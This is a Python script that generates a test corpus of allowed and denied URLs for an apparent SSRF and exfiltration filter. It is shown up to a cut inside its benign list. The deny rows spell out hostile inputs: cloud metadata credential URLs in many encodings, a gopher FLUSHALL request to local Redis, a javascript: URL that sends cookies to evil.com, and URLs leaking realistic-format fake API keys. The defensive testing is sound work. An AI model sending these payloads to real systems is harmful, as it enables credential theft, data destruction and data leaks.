#!/usr/bin/env python3
"""Writes blind-urls.jsonl: a held-out-style corpus for /check/url under the shipped policy.

Written from the issue, the README and config/allowlists/domains.yaml only, before reading the
network code or its tests. Rows: {"url", "expect": "deny"|"allow", "family", "note"} and, for DNS
rebinding rows, "dns": {name: [addresses]} overriding the test's fake resolver for that row.
Secrets are generated with a fixed seed in their real formats (GitHub CRC32 checksum included);
none of them is live.

Run: python3 blind-urls-gen.py > blind-urls.jsonl
"""
import base64
import binascii
import json
import random
import string
import sys
import urllib.parse

rnd = random.Random(20261130)
ALNUM = string.digits + string.ascii_uppercase + string.ascii_lowercase
rows = []


def row(url, expect, family, note, dns=None):
    r = {"url": url, "expect": expect, "family": family, "note": note}
    if dns:
        r["dns"] = dns
    rows.append(r)


def deny(url, family, note, dns=None):
    row(url, "deny", family, note, dns)


def allow(url, family, note):
    row(url, "allow", family, note)


def rand(alphabet, n):
    return "".join(rnd.choice(alphabet) for _ in range(n))


def base62(n):
    out = ""
    while n:
        n, r = divmod(n, 62)
        out = ALNUM[r] + out
    return out.rjust(6, "0")


def github_token(prefix):
    body = rand(ALNUM, 30)
    return prefix + body + base62(binascii.crc32(body.encode()) & 0xFFFFFFFF)


def hexsha():
    return rand("0123456789abcdef", 40)


def uuid():
    h = rand("0123456789abcdef", 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


# ---------------------------------------------------------------- secrets (generated formats)
GHP = github_token("ghp_")
GHO = github_token("gho_")
GHS = github_token("ghs_")
GHU = github_token("ghu_")
GH_FINE = "github_pat_11" + rand(ALNUM, 20) + "_" + rand(ALNUM, 59)
AWS_ID = "AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
AWS_SECRET = rand(string.ascii_letters + string.digits + "/+", 40)
SLACK_BOT = f"xoxb-{rand(string.digits, 12)}-{rand(string.digits, 13)}-{rand(ALNUM, 24)}"
SLACK_USER = f"xoxp-{rand(string.digits, 12)}-{rand(string.digits, 12)}-{rand(string.digits, 13)}-{rand('0123456789abcdef', 32)}"
STRIPE_LIVE = "sk_live_" + rand(ALNUM, 99)
STRIPE_RK = "rk_live_" + rand(ALNUM, 24)
OPENAI = "sk-proj-" + rand(ALNUM + "-_", 74) + "T3BlbkFJ" + rand(ALNUM + "-_", 74)
ANTHROPIC = "sk-ant-api03-" + rand(ALNUM + "-_", 93) + "AA"
GOOGLE = "AIza" + rand(ALNUM + "-_", 35)
TELEGRAM = f"{rand(string.digits, 10)}:AA{rand(ALNUM + '-_', 33)}"
SENDGRID = "SG." + rand(ALNUM + "-_", 22) + "." + rand(ALNUM + "-_", 43)
GROQ = "gsk_" + rand(ALNUM, 52)

OWNERS = [("psf", "requests"), ("torvalds", "linux"), ("microsoft", "vscode"),
          ("rust-lang", "cargo"), ("pallets", "flask"), ("octocat", "Hello-World"),
          ("kubernetes", "kubernetes"), ("apache", "maven"), ("openai", "openai-python"),
          ("anthropics", "anthropic-sdk-python"), ("supabase", "supabase-js"),
          ("square", "okhttp")]


def repo():
    return rnd.choice(OWNERS)


# ================================================================= ATTACKS
# ---- loopback in every notation
for host, note in [
    ("127.0.0.1", "dotted loopback"),
    ("127.1", "short form 127.1"),
    ("127.0.1", "short form 127.0.1"),
    ("2130706433", "dotless decimal"),
    ("0x7f000001", "dotless hex"),
    ("0X7F000001", "dotless hex upper case"),
    ("017700000001", "dotless octal"),
    ("0177.0.0.1", "octal first octet"),
    ("0177.0000.0000.0001", "all octal with padding"),
    ("0x7f.0.0.1", "hex first octet"),
    ("0x7f.0x0.0x0.0x1", "hex every octet"),
    ("0x7F.1", "hex short form"),
    ("127.000.000.001", "zero padded decimal (octal zeros)"),
    ("127.0x0.1", "mixed decimal/hex short"),
    ("0x0000007f.1", "hex with leading zeros"),
    ("127.0.0.1.", "trailing dot"),
    ("127.255.255.254", "top of 127/8"),
    ("localhost", "name localhost"),
    ("LOCALHOST", "upper-case localhost"),
    ("localhost.", "localhost with trailing dot"),
    ("api.localhost", "sub-domain of localhost"),
    ("[::1]", "IPv6 loopback"),
    ("[0:0:0:0:0:0:0:1]", "IPv6 loopback long form"),
    ("[0000:0000:0000:0000:0000:0000:0000:0001]", "IPv6 loopback zero padded"),
    ("[::ffff:127.0.0.1]", "IPv4-mapped loopback"),
    ("[::ffff:7f00:1]", "IPv4-mapped loopback in hex"),
    ("[::127.0.0.1]", "IPv4-compatible loopback"),
    ("[0:0:0:0:0:ffff:127.0.0.1]", "IPv4-mapped long form"),
    ("[::1%25eth0]", "loopback with zone id"),
    ("%31%32%37%2e%30%2e%30%2e%31", "percent-encoded dotted loopback"),
    ("%6c%6f%63%61%6c%68%6f%73%74", "percent-encoded localhost"),
    ("\uff11\uff12\uff17\uff0e\uff10\uff0e\uff10\uff0e\uff11", "fullwidth digits and dots"),
    ("127\u30020\u30020\u30021", "ideographic full stops"),
    ("\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3", "circled letters localhost"),
]:
    deny(f"http://{host}/admin", "loopback", note)
deny("http://127.0.0.1:8420/killswitch/reset", "loopback", "the shield's own API")
deny("http://localhost:6379/", "loopback", "local redis")
deny("http://0/", "loopback", "0 is 0.0.0.0")
deny("http://0.0.0.0:8080/", "loopback", "unspecified address")
deny("http://[::]/", "loopback", "IPv6 unspecified")
deny("http://[::ffff:0.0.0.0]/", "loopback", "mapped unspecified")

# ---- private, CGNAT, link-local and other special-purpose ranges
for host, note in [
    ("10.0.0.1", "10/8"),
    ("10.255.255.254", "10/8 top"),
    ("012.0.0.1", "10/8 octal"),
    ("0xa.0.0.1", "10/8 hex"),
    ("167772161", "10.0.0.1 dotless"),
    ("10.1", "10/8 short form"),
    ("172.16.0.1", "172.16/12"),
    ("172.31.255.254", "172.16/12 top"),
    ("0xac.0x10.0.1", "172.16/12 hex"),
    ("192.168.1.1", "192.168/16"),
    ("192.168.0x1.1", "192.168/16 mixed"),
    ("3232235777", "192.168.1.1 dotless"),
    ("0300.0250.1.1", "192.168.1.1 octal"),
    ("100.64.0.1", "CGNAT 100.64/10"),
    ("100.127.255.254", "CGNAT top"),
    ("169.254.1.1", "link-local"),
    ("224.0.0.1", "multicast"),
    ("239.255.255.250", "SSDP multicast"),
    ("255.255.255.255", "broadcast"),
    ("192.0.2.10", "TEST-NET-1"),
    ("198.51.100.7", "TEST-NET-2"),
    ("203.0.113.9", "TEST-NET-3"),
    ("198.18.0.5", "benchmarking 198.18/15"),
    ("240.0.0.1", "reserved 240/4"),
    ("192.0.0.8", "IETF protocol assignments"),
    ("[fc00::1]", "ULA fc00::/7"),
    ("[fd12:3456:789a::1]", "ULA fd"),
    ("[FD00::1]", "ULA upper case"),
    ("[fe80::1]", "IPv6 link-local"),
    ("[fe80::1%25en0]", "link-local with zone id"),
    ("[febf::ffff]", "link-local top"),
    ("[ff02::1]", "IPv6 multicast"),
    ("[2001:db8::1]", "IPv6 documentation"),
    ("[::ffff:10.0.0.1]", "IPv4-mapped private"),
    ("[::ffff:c0a8:101]", "IPv4-mapped 192.168.1.1 hex"),
    ("[::ffff:192.168.1.1]", "IPv4-mapped 192.168.1.1"),
    ("[::10.0.0.1]", "IPv4-compatible private"),
    ("[64:ff9b::10.0.0.1]", "NAT64 of private"),
    ("[64:ff9b::7f00:1]", "NAT64 of loopback, hex"),
    ("[64:ff9b::c0a8:101]", "NAT64 of 192.168.1.1"),
    ("[2002:7f00:1::]", "6to4 of loopback"),
    ("[2002:c0a8:101::1]", "6to4 of 192.168.1.1"),
    ("[2002:0a00:0001::]", "6to4 of 10.0.0.1"),
    ("[2001:0:4136:e378:8000:63bf:f5ff:fffe]", "Teredo with client 10.0.0.1"),
    ("[2001:0:4136:e378:8000:63bf:80ff:fffe]", "Teredo with client 127.0.0.1"),
    ("%31%30.0.0.1", "partly percent-encoded 10.0.0.1"),
    ("\uff11\uff10\uff0e\uff10\uff0e\uff10\uff0e\uff11", "fullwidth 10.0.0.1"),
]:
    deny(f"http://{host}/", "private", note)

# ---- cloud metadata
for url, note in [
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "AWS IMDS"),
    ("http://169.254.169.254/latest/api/token", "AWS IMDSv2 token"),
    ("http://[fd00:ec2::254]/latest/meta-data/", "AWS IMDS IPv6"),
    ("http://169.254.170.2/v2/credentials/", "ECS task credentials"),
    ("http://instance-data/latest/meta-data/", "AWS instance-data name"),
    ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "GCP"),
    ("http://metadata.google.internal./computeMetadata/v1/", "GCP trailing dot"),
    ("http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/", "GCP upper case"),
    ("http://metadata/computeMetadata/v1/", "GCP short name"),
    ("http://metadata.goog/computeMetadata/v1/", "GCP alias"),
    ("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "Azure IMDS"),
    ("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "Azure managed identity"),
    ("http://168.63.129.16/machine?comp=goalstate", "Azure wireserver"),
    ("http://169.254.169.254/opc/v2/instance/", "Oracle Cloud"),
    ("http://192.0.0.192/latest/", "Oracle Cloud classic"),
    ("http://169.254.169.254/metadata/v1.json", "DigitalOcean"),
    ("http://100.100.100.200/latest/meta-data/", "Alibaba Cloud"),
    ("http://169.254.169.254/openstack/latest/meta_data.json", "OpenStack"),
    ("http://169.254.169.254./latest/", "trailing dot"),
    ("http://2852039166/latest/meta-data/", "dotless decimal"),
    ("http://0xa9fea9fe/latest/meta-data/", "dotless hex"),
    ("http://0xA9.0xFE.0xA9.0xFE/latest/", "hex octets"),
    ("http://0251.0376.0251.0376/latest/", "octal octets"),
    ("http://025177524776/latest/", "dotless octal"),
    ("http://169.254.43518/latest/", "two-part tail"),
    ("http://169.16689662/latest/", "one-part tail"),
    ("http://0xa9.254.0251.0xfe/latest/", "mixed bases"),
    ("http://[::ffff:169.254.169.254]/latest/", "IPv4-mapped"),
    ("http://[::ffff:a9fe:a9fe]/latest/", "IPv4-mapped hex"),
    ("http://[0:0:0:0:0:ffff:169.254.169.254]/latest/", "IPv4-mapped long"),
    ("http://[::169.254.169.254]/latest/", "IPv4-compatible"),
    ("http://[64:ff9b::169.254.169.254]/latest/", "NAT64"),
    ("http://[64:ff9b::a9fe:a9fe]/latest/", "NAT64 hex"),
    ("http://[2002:a9fe:a9fe::]/latest/", "6to4"),
    ("http://[fd00:ec2:0:0:0:0:0:254]/latest/", "AWS IPv6 long form"),
    ("http://%31%36%39.254.169.254/latest/", "percent-encoded octet"),
    ("http://169\uff0e254\uff0e169\uff0e254/latest/", "fullwidth dots"),
    ("http://169\u3002254\u3002169\u3002254/latest/", "ideographic dots"),
    ("http://169.254.169.254:80/latest/", "explicit port 80"),
    ("https://169.254.169.254/latest/", "https"),
    ("http://169.254.169.254\\@github.com/", "backslash before @ (WHATWG: host is the IP)"),
]:
    deny(url, "metadata", note)

# ---- userinfo tricks
for url, note in [
    ("https://github.com@evil.com/", "allowed name as userinfo"),
    ("https://github.com@pastebin.com/raw/x", "userinfo to blocked host"),
    ("https://api.github.com:443@evil.com/", "userinfo looks like host:port"),
    ("https://github.com%40evil.com/", "percent-encoded @ in host"),
    ("https://evil.com#@github.com/", "fragment before @"),
    ("https://evil.com?@github.com/", "query before @"),
    ("https://evil.com\\@github.com/", "backslash before @ (WHATWG: host evil.com)"),
    ("https://github.com:pass@169.254.169.254/", "userinfo to metadata"),
    ("https://user:pass@github.com/", "credentials to an allowed host (userinfo off)"),
    ("https://token@api.github.com/user", "token as userinfo"),
    ("https://@github.com@evil.com/", "double @"),
    ("https://github.com%2F@evil.com/", "encoded slash in userinfo"),
    ("http://github.com\t@evil.com/", "tab before @"),
    ("https://github.com&@evil.com/", "ampersand before @"),
    ("https://api.openai.com;@evil.com/", "semicolon before @"),
]:
    deny(url, "userinfo", note)

# ---- backslash, tab, newline, control characters
for url, note in [
    ("https://evil.com\\github.com/", "backslash as path separator"),
    ("https://evil.com\\\\github.com", "double backslash"),
    ("https:\\\\evil.com\\github.com", "backslashes after scheme"),
    ("https://github.com\t.evil.com/", "tab inside host"),
    ("https://github.com\n.evil.com/", "newline inside host"),
    ("https://git\thub.com.evil.com/", "tab splitting an allowed name"),
    ("https://pastebin\r\n.com/raw/x", "CRLF in blocked name"),
    ("http://169.254\n.169.254/", "newline in metadata IP"),
    ("https://github.com\u0000.evil.com/", "NUL in host"),
    ("https://github.com%00.evil.com/", "encoded NUL in host"),
    ("https://github.com%0d%0aHost:evil.com/", "encoded CRLF header injection"),
    ("https://github.com\u200b.evil.com/", "zero-width space in host"),
    ("https://github.com%2eevil.com/", "encoded dot joins labels"),
    ("https://github.com%2fevil.com/", "encoded slash in host"),
    ("https://github.com /../evil.com", "space in authority"),
]:
    deny(url, "separator", note)

# ---- schemes
for url, note in [
    ("file:///etc/passwd", "file"),
    ("file://github.com/etc/passwd", "file with allowed host"),
    ("file:///proc/self/environ", "file environ"),
    ("FILE:///etc/shadow", "upper-case file"),
    ("gopher://127.0.0.1:6379/_FLUSHALL", "gopher to redis"),
    ("gopher://github.com/_x", "gopher to allowed host"),
    ("dict://127.0.0.1:11211/stats", "dict"),
    ("ftp://github.com/pub/x", "ftp to allowed host (not in allowed_schemes)"),
    ("ftp://ftp.example.org/", "ftp"),
    ("sftp://github.com/", "sftp"),
    ("ssh://git@github.com/psf/requests.git", "ssh"),
    ("git://github.com/psf/requests.git", "git protocol"),
    ("ldap://127.0.0.1/dc=example", "ldap"),
    ("ldaps://github.com/", "ldaps"),
    ("jar:https://github.com/x/y.jar!/META-INF/MANIFEST.MF", "jar wrapping an allowed URL"),
    ("jar:file:///tmp/x.jar!/a", "jar file"),
    ("netdoc:///etc/passwd", "netdoc"),
    ("data:text/html,<script>fetch('https://evil.com')</script>", "data"),
    ("data:text/plain;base64,SGVsbG8=", "data base64"),
    ("javascript:fetch('https://evil.com/?c='+document.cookie)", "javascript"),
    ("JaVaScRiPt:alert(1)", "javascript mixed case"),
    ("ws://github.com/socket", "ws (not in allowed_schemes)"),
    ("wss://api.openai.com/v1/realtime", "wss (not in allowed_schemes)"),
    ("view-source:https://github.com/", "view-source"),
    ("blob:https://github.com/5e7b0b0a-7e1f-4d1f-9d1e-1a2b3c4d5e6f", "blob"),
    ("mailto:attacker@evil.com?body=secret", "mailto"),
    ("tftp://10.0.0.1/config", "tftp"),
    ("smb://10.0.0.5/share", "smb"),
    ("http:/evil.com/x", "single slash (WHATWG: host evil.com)"),
    ("http:evil.com/x", "no slashes (WHATWG: host evil.com)"),
    ("https:///evil.com/x", "three slashes"),
    ("//evil.com/x", "scheme-relative"),
    ("httpx://github.com/", "unknown scheme"),
    ("https+unix://%2Fvar%2Frun%2Fdocker.sock/containers/json", "unix socket scheme"),
    ("", "empty"),
    ("https://", "empty host"),
    ("https://:443/", "empty host with port"),
]:
    deny(url, "scheme", note)

# ---- ports
for url, note in [
    ("https://github.com:22/", "ssh port on allowed host"),
    ("http://api.github.com:8080/", "8080"),
    ("https://api.openai.com:8443/v1/models", "8443"),
    ("https://github.com:65536/", "port out of range"),
    ("https://github.com:99999999999/", "huge port"),
    ("https://github.com:-1/", "negative port"),
    ("https://github.com:+443/", "signed port"),
    ("https://github.com:443.evil.com/", "port followed by name"),
    ("https://github.com:0x1bb/", "hex port"),
    ("https://api.github.com:25/", "smtp port"),
    ("https://abc123.supabase.co:5432/", "postgres port not in allowed_ports"),
]:
    deny(url, "port", note)

# ---- names that are not the allowed ones
for host, note in [
    ("api.github.com.evil.com", "allowed name as prefix"),
    ("github.com.evil.com", "apex as prefix"),
    ("evilgithub.com", "suffix without dot"),
    ("notgithub.com", "suffix without dot"),
    ("github.co", "different TLD"),
    ("github.com-evil.com", "hyphen join"),
    ("githubusercontent.com", "apex not listed"),
    ("gist.githubusercontent.com", "sibling of raw.githubusercontent.com"),
    ("objects.githubusercontent.com", "release assets host, not listed"),
    ("raw.githubusercontent.com.evil.net", "listed name as prefix"),
    ("supabase.co", "wildcard does not cover the apex"),
    ("supabase.co.evil.com", "wildcard apex as prefix"),
    ("evilsupabase.co", "suffix without dot"),
    ("abc.supabase.com", "different TLD"),
    ("openai.com", "apex not listed"),
    ("platform.openai.com", "sibling not listed"),
    ("api.openai.com.attacker.net", "prefix"),
    ("xapi.openai.com", "label prefix"),
    ("api-openai.com", "hyphenated lookalike"),
    ("anthropic.com", "apex not listed"),
    ("console.anthropic.com", "sibling not listed"),
    ("api.groq.com.evil.io", "prefix"),
    ("groq.com", "apex not listed"),
    ("openrouter.ai.evil.com", "prefix"),
    ("openrouterai.com", "lookalike"),
    ("telegram.org", "apex not listed"),
    ("api.telegram.org.evil.com", "prefix"),
    ("example.com", "not listed"),
    ("evil.com", "not listed"),
    ("pypi.org", "registry not shipped"),
    ("registry.npmjs.org", "registry not shipped"),
    ("files.pythonhosted.org", "registry not shipped"),
    ("s3.amazonaws.com", "object storage not listed"),
    ("discord.com", "chat webhook host not listed"),
    ("hooks.slack.com", "chat webhook host not listed"),
    ("169.254.169.254.nip.io", "wildcard DNS name embedding the metadata IP"),
    ("127.0.0.1.sslip.io", "wildcard DNS name embedding loopback"),
    ("github.com.127.0.0.1.nip.io", "allowed name inside a wildcard-DNS name"),
    ("kubernetes.default.svc", "cluster-internal name"),
    ("internal", "single label"),
    ("8.8.8.8", "public IP literal"),
    ("140.82.112.3", "github's own IP as a literal"),
    ("[2606:4700:4700::1111]", "public IPv6 literal"),
    ("1.1.1.1", "public IP literal"),
]:
    deny(f"https://{host}/", "not-allowlisted", note)

# ---- blocked list
for url, note in [
    ("https://pastebin.com/api/api_post.php", "pastebin"),
    ("https://PASTEBIN.COM/raw/abc", "upper case"),
    ("https://pastebin.com./raw/abc", "trailing dot"),
    ("https://transfer.sh/upload/x.txt", "transfer.sh"),
    ("https://ngrok.io/", "ngrok apex"),
    ("https://a1b2c3d4.ngrok.io/collect", "ngrok sub-domain"),
    ("https://webhook.site/3f6c1c2e-8d2a-4c4b-9f1e-2a3b4c5d6e7f", "webhook.site"),
    ("https://requestbin.com/r/en1abc", "requestbin"),
    ("https://hookbin.com/abc", "hookbin"),
    ("https://%70astebin.com/raw/x", "percent-encoded blocked name"),
    ("https://pastebin\uff0ecom/raw/x", "fullwidth dot in blocked name"),
    ("https://x.ngrok.io./y", "wildcard blocked with trailing dot"),
]:
    deny(url, "blocked", note)

# ---- IDN and lookalikes of allowed names
for host, note in [
    ("g\u0456thub.com", "Cyrillic i"),
    ("githu\u042c.com", "Cyrillic soft sign for b"),
    ("\u0261ithub.com", "Latin script g"),
    ("github.c\u03bfm", "Greek omicron in TLD"),
    ("\u0430pi.openai.com", "Cyrillic a in api"),
    ("api.anthr\u043epic.com", "Cyrillic o"),
    ("r\u0430w.githubusercontent.com", "Cyrillic a in raw"),
    ("api.gr\u043eq.com", "Cyrillic o in groq"),
    ("openr\u043euter.ai", "Cyrillic o in openrouter"),
    ("g\u00edthub.com", "Latin i with acute"),
    ("github\uff0ecom\uff0eevil\uff0ecom", "fullwidth dots make github.com.evil.com"),
    ("api.github.com\u3002evil.com", "ideographic dot suffix"),
    ("\uff47\uff49\uff54\uff48\uff55\uff42\uff0e\uff43\uff4f\uff4d\uff0eevil.com", "fullwidth github.com. prefix"),
    ("\u0430dmin.supabase.co", "mixed-script label under an allowed wildcard"),
    ("xn--pple-43d.supabase.co", "punycode Cyrillic-a label under an allowed wildcard"),
    ("github.com\u2024evil.com", "one dot leader"),
]:
    deny(f"https://{host}/", "idn", note)
for host in ["g\u0456thub.com", "\u0430pi.openai.com", "g\u00edthub.com", "api.gr\u043eq.com"]:
    deny(f"https://{host.encode('idna').decode()}/", "idn", f"punycode of {host}")

# ---- over-long input
deny("https://api.github.com/search/code?q=" + "a" * 70000, "overlong", "70k-character URL")
deny("https://" + "a." * 200 + "github.com/", "overlong", "host over 253 characters under an allowed wildcard")
deny("https://" + "a" * 64 + ".github.com/", "overlong", "64-character label under an allowed wildcard")

# ---- DNS rebinding: allowed names that resolve to non-public addresses
for host, addrs, note in [
    ("api.github.com", ["127.0.0.1"], "allowed name to loopback"),
    ("github.com", ["169.254.169.254"], "allowed name to metadata"),
    ("raw.githubusercontent.com", ["10.0.0.7"], "allowed name to 10/8"),
    ("api.openai.com", ["162.159.140.245", "192.168.1.10"], "one private among public"),
    ("rebind.supabase.co", ["0.0.0.0"], "wildcard name to unspecified"),
    ("api.anthropic.com", ["::1"], "IPv6 loopback answer"),
    ("api.groq.com", ["::ffff:10.0.0.1"], "IPv4-mapped private answer"),
    ("openrouter.ai", ["fd00:ec2::254"], "AWS IPv6 metadata answer"),
    ("docs.github.com", ["100.100.100.200"], "Alibaba metadata (CGNAT) answer"),
    ("x7.openrouter.ai", ["64:ff9b::a9fe:a9fe"], "NAT64 of metadata answer"),
    ("nxdomain.supabase.co", [], "name does not resolve (fail closed)"),
    ("gist.github.com", ["fe80::1"], "link-local answer"),
]:
    deny(f"https://{host}/", "dns-rebinding", note, dns={host: addrs})

# ---- exfiltration to allowed hosts
def b64(s):
    return base64.b64encode(s.encode()).decode()


def b64url(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def pct_all(s):
    return "".join(f"%{b:02X}" for b in s.encode())


o, r = repo()
for url, note in [
    (f"https://api.github.com/search/code?q={GHP}", "classic PAT as search query"),
    (f"https://github.com/{o}/{r}/issues/new?title=bug&body={GHO}", "OAuth token in issue body"),
    (f"https://raw.githubusercontent.com/{o}/{r}/main/{GHS}", "app token as path segment"),
    (f"https://api.github.com/repos/{o}/{r}/contents/{GHU}.txt", "user token in file name"),
    (f"https://github.com/search?q={GH_FINE}&type=code", "fine-grained PAT"),
    (f"https://api.openai.com/v1/models#{GHP}", "token in fragment"),
    (f"https://api.github.com/gists?description={AWS_ID}", "AWS access key id"),
    (f"https://api.github.com/gists?id={AWS_ID}&secret={urllib.parse.quote(AWS_SECRET, safe='')}", "AWS key pair"),
    (f"https://api.github.com/search/issues?q=aws_secret_access_key%3D{urllib.parse.quote(AWS_SECRET, safe='')}", "AWS secret with its name"),
    (f"https://api.groq.com/openai/v1/models?trace={SLACK_BOT}", "Slack bot token"),
    (f"https://openrouter.ai/api/v1/models?u={SLACK_USER}", "Slack user token"),
    (f"https://abc123xyz.supabase.co/rest/v1/logs?msg={STRIPE_LIVE}", "Stripe live secret key"),
    (f"https://api.github.com/repos/{o}/{r}/issues?labels={STRIPE_RK}", "Stripe restricted key"),
    (f"https://api.anthropic.com/v1/models?key={OPENAI}", "OpenAI key to Anthropic"),
    (f"https://github.com/{o}/{r}/blob/main/{ANTHROPIC}", "Anthropic key as path"),
    (f"https://api.telegram.org/x?k={GOOGLE}", "Google API key"),
    (f"https://github.com/search?q={urllib.parse.quote(TELEGRAM, safe='')}", "Telegram bot token"),
    (f"https://api.github.com/search/code?q={SENDGRID}", "SendGrid key"),
    (f"https://api.openai.com/v1/files?purpose={GROQ}", "Groq key"),
    (f"https://api.github.com/search/code?q={b64(GHP)}", "classic PAT base64"),
    (f"https://raw.githubusercontent.com/{o}/{r}/main/{b64url(AWS_ID + ':' + AWS_SECRET)}", "AWS pair base64url in path"),
    (f"https://api.github.com/search/code?q={GHP.encode().hex()}", "classic PAT hex"),
    (f"https://github.com/{o}/{r}/issues?q={SLACK_BOT.encode().hex().upper()}", "Slack token upper-case hex"),
    (f"https://api.github.com/search/code?q={pct_all(GHP)}", "classic PAT fully percent-encoded"),
    (f"https://api.github.com/search/code?q={pct_all(STRIPE_LIVE)}", "Stripe key fully percent-encoded"),
    (f"https://openrouter.ai/api/v1/models?x={urllib.parse.quote(b64(OPENAI), safe='')}", "OpenAI key base64 then percent"),
    (f"https://api.github.com/repos/{o}/{r}/issues/1/comments#{b64(ANTHROPIC)}", "Anthropic key base64 in fragment"),
    (f"https://api.github.com/search/code?q=token%3A{GHP}+in%3Afile", "PAT inside a search expression"),
    (f"https://api.github.com/user?access_token={GHO}", "token as access_token parameter"),
    (f"https://github.com/{o}/{r}/{AWS_ID}/{urllib.parse.quote(AWS_SECRET, safe='')}", "AWS pair as two path segments"),
    (f"https://api.github.com/search/code?q={GHP[::-1]}", "classic PAT reversed"),
    (f"https://api.github.com/search/code?q={b64(b64(GHP))}", "classic PAT base64 twice"),
    (f"https://{AWS_ID.lower()}.supabase.co/", "AWS key id as a host label (lower-cased by DNS)"),
]:
    deny(url, "exfil", note)

# ================================================================= BENIGN
SHAS = [hexsha() for _ in range(12)]


def sha():
    return rnd.choice(SHAS)


gh_api = [
    "https://api.github.com/repos/{o}/{r}",
    "https://api.github.com/repos/{o}/{r}/pulls?state=open&sort=updated&direction=desc&per_page=50&page=2",
    "https://api.github.com/repos/{o}/{r}/commits/{sha}",
    "https://api.github.com/repos/{o}/{r}/compare/v2.31.0...v2.32.3",
    "https://api.github.com/repos/{o}/{r}/contents/src/requests/sessions.py?ref=main",
    "https://api.github.com/repos/{o}/{r}/git/trees/{sha}?recursive=1",
    "https://api.github.com/repos/{o}/{r}/actions/runs?branch=main&status=completed&per_page=20",
    "https://api.github.com/repos/{o}/{r}/actions/runs/9876543210/jobs?filter=latest",
    "https://api.github.com/repos/{o}/{r}/releases/latest",
    "https://api.github.com/repos/{o}/{r}/releases/tags/v1.26.4",
    "https://api.github.com/search/issues?q=is%3Aissue+is%3Aopen+label%3Abug+repo%3A{o}%2F{r}&sort=created&order=desc",
    "https://api.github.com/search/repositories?q=language:rust+stars:%3E1000&sort=stars&order=desc&per_page=30",
    "https://api.github.com/search/code?q=TODO+in:file+extension:py+repo:{o}/{r}",
    "https://api.github.com/search/commits?q=repo:{o}/{r}+author-date:2024-01-01..2024-06-30",
    "https://api.github.com/users/{o}/repos?type=owner&sort=pushed&per_page=100",
    "https://api.github.com/orgs/{o}/members?per_page=100&page=4",
    "https://api.github.com/rate_limit",
    "https://api.github.com/gists/{gist}",
    "https://api.github.com/repos/{o}/{r}/issues/1234/comments?since=2024-05-01T00:00:00Z&per_page=100",
    "https://api.github.com/graphql",
    "https://api.github.com/repos/{o}/{r}/commits/{sha}/check-runs?filter=latest&per_page=100",
    "https://api.github.com/repos/{o}/{r}/branches/main/protection",
    "https://api.github.com/notifications?all=false&participating=true",
    "https://api.github.com/repos/{o}/{r}/tarball/v1.0.0",
    "https://api.github.com/repos/{o}/{r}/pulls/4821/files?per_page=100&page=1",
    "https://api.github.com/repos/{o}/{r}/issues?labels=good%20first%20issue,help%20wanted&state=open",
    "https://api.github.com/repos/{o}/{r}/deployments?environment=production&per_page=5",
    "https://api.github.com/repos/{o}/{r}/actions/artifacts/1487263095/zip",
    "https://api.github.com/repos/{o}/{r}/dependency-graph/sbom",
    "https://api.github.com/repos/{o}/{r}/stats/contributors",
    "https://api.github.com/repos/{o}/{r}/git/ref/heads/feature%2Fnew-parser",
    "https://api.github.com/repos/{o}/{r}/issues/events?per_page=100",
    "https://api.github.com/search/issues?q=%22connection+reset%22+repo%3A{o}%2F{r}+is%3Aissue",
    "https://api.github.com/search/issues?q=caf%C3%A9+in%3Atitle",
    "https://api.github.com/search/repositories?q=Z\u00fcrich+transit",
    "https://api.github.com/search/repositories?q=\u65e5\u672c\u8a9e+\u5f62\u614b\u7d20\u89e3\u6790",
    "https://api.github.com/search/issues?q=deploy+%F0%9F%9A%80+label%3Arelease",
    "https://api.github.com/repos/{o}/{r}/milestones?state=all&sort=due_on&direction=asc",
    "https://api.github.com/repos/{o}/{r}/actions/workflows/ci.yml/runs?event=push&branch=main&created=%3E2024-06-01",
    "https://api.github.com/repos/{o}/{r}/pulls/4821/reviews",
    "https://api.github.com/repos/{o}/{r}/code-scanning/alerts?state=open&severity=high",
    "https://api.github.com/repos/{o}/{r}/license",
    "https://api.github.com/repos/{o}/{r}/languages",
    "https://api.github.com/repos/{o}/{r}/topics",
    "https://api.github.com/users/octocat/events/public?per_page=30",
    "https://api.github.com/meta",
    "https://api.github.com/repos/{o}/{r}/contents/docs/index.md?ref={sha}",
    "https://api.github.com/repos/{o}/{r}/git/blobs/{sha}",
    "https://api.github.com/repos/{o}/{r}/commits?path=src%2Fmain.rs&since=2024-01-01T00%3A00%3A00Z&until=2024-03-31T23%3A59%3A59Z",
    "https://api.github.com:443/rate_limit",
    "HTTPS://API.GITHUB.COM/repos/{o}/{r}/releases?per_page=10",
    "https://Api.GitHub.com/repos/{o}/{r}/tags",
]
gh_web = [
    "https://github.com/{o}/{r}",
    "https://github.com/{o}/{r}/blob/{sha}/README.md",
    "https://github.com/{o}/{r}/tree/main/docs",
    "https://github.com/{o}/{r}/releases/download/v1.2.3/tool-linux-amd64.tar.gz",
    "https://github.com/{o}/{r}/archive/refs/tags/v1.0.0.zip",
    "https://github.com/{o}/{r}/pull/4821/files",
    "https://github.com/{o}/{r}/issues?q=is%3Aissue+is%3Aopen+label%3Abug",
    "https://github.com/{o}/{r}/commit/{sha}.patch",
    "https://github.com/{o}/{r}/compare/main...feature-x",
    "https://github.com/{o}/{r}.git/info/refs?service=git-upload-pack",
    "https://github.com/search?q=connection+pool+timeout&type=code",
    "https://github.com/login?return_to=https%3A%2F%2Fgithub.com%2F{o}%2F{r}%2Fissues",
    "https://github.com/{o}/{r}/blob/main/src/lib.rs#L120-L145",
    "https://github.com/{o}/{r}/actions/runs/9876543210/job/27281934502",
    "https://github.com/{o}/{r}/wiki/Frequently-Asked-Questions",
    "https://github.com/{o}/{r}/discussions/812",
    "https://github.com/{o}/{r}/raw/main/LICENSE",
    "https://github.com/{o}/{r}/blob/main/docs/../README.md",
    "http://github.com/{o}/{r}",
    "https://github.com/{o}/{r}/labels/good%20first%20issue",
